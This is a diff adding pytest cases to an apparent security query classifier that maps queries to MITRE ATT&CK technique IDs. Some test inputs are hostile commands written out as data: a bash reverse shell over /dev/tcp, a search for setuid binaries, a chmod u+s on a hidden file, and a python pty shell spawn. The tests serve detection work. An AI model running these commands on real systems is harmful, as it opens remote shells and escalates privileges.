@@ -234,6 +234,27 @@ def test_queries_are_read_through_tool_names_abbreviations_and_misspellings(quer
     assert meaning.techniques.get(technique, 0) >= 0.9, meaning.techniques
 
 
+@pytest.mark.parametrize(("query", "technique"), [
+    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "T1095"),
+    ("find / -perm -4000 -type f 2>/dev/null", "T1548.001"),
+    ("chmod u+s /tmp/.sh", "T1548.001"),
+    ("python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "T1059.004"),
+])
+def test_a_command_quoted_in_a_query_means_what_it_shows(query: str, technique: str) -> None:
+    """A query that pastes a command is read by the indicators a command line is: `chmod u+s` is setuid, where
+    the words alone (`chmod`) said only a permissions change."""
+    assert understand(query).techniques.get(technique, 0) >= 0.9, understand(query).techniques
+
+
+@pytest.mark.parametrize(("query", "technique"), [
+    ("who checked the kernel version and distro", "T1082"), ("backdoor user", "T1136.001"),
+    ("a fake sshd", "T1036.005"), ("bash tcp redirection", "T1095"),
+])
+def test_everyday_ways_to_say_a_technique_are_read(query: str, technique: str) -> None:
+    meaning = understand(query)
+    assert max(meaning.techniques, key=meaning.techniques.__getitem__) == technique, meaning.techniques
+
+
 @pytest.mark.parametrize(("typed", "meant"), [("exfiltraiton", "exfiltration"), ("persistance", "persistence"),
                                               ("reconnaisance", "reconnaissance"),
                                               ("ransomwear", "ransomware"),  # two letters off a long word
